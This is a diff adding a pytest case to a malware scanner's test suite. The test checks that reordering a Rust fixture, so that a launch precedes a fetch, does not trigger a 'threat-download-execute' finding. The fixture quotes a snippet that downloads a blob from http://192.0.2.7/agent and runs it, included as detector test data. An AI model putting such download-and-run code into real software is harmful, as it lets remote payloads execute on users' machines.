@@ -91,6 +91,20 @@ def test_steps_no_call_joins_are_not_a_flow(tmp_path: Path) -> None:
     assert joined(result, "threat-download-execute") == []
 
 
+def test_steps_along_calls_in_another_order_are_no_download_run(tmp_path: Path) -> None:
+    """A browser started, then connected to and a file written (a headless renderer):
+    the run comes before the download where the paths part, so it runs nothing fetched."""
+    lib = LIB.replace(
+        """    if let Some(blob) = fetch::get("http://192.0.2.7/agent") {
+        run::launch(&blob);
+    }""",
+        """    run::launch(b"");
+    let _ = fetch::get("http://192.0.2.7/agent");""",
+    )
+    result = scan(tmp_path, {"src/lib.rs": lib, "src/fetch.rs": FETCH, "src/run.rs": RUN})
+    assert joined(result, "threat-download-execute") == []
+
+
 def test_a_flow_spread_over_large_functions_is_not_joined(tmp_path: Path) -> None:
     """A tool that downloads in one subsystem and runs commands in another is not a
     payload spread over helpers."""
